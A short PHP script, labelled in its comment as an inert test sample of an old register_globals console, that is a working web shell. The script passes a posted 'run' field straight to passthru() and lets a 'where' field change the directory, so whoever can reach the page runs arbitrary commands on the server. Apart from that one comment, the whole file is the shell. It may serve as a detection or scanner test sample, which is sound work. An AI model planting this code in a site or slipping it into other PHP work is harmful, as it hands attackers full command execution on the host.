<?php
// inert test sample: an old register_globals console; "run" and "where" come from the form below
$self = $_SERVER['PHP_SELF'];
if ($where != "") {
    @chdir($where);
}
$pos = strpos($run, "chdir ");
if ($pos === 0) {
    $where = trim(substr($run, 6));
    $run = "";
}
echo "<pre>";
if ($run) {
    passthru($run . " 2>&1");
}
echo "</pre>";
?>
<form action="<?php echo $self; ?>" method="post">
  <input type="text" name="run" size="60">
  <input type="hidden" name="where" value="<?php echo htmlspecialchars(getcwd()); ?>">
  <input type="submit" value="go">
</form>
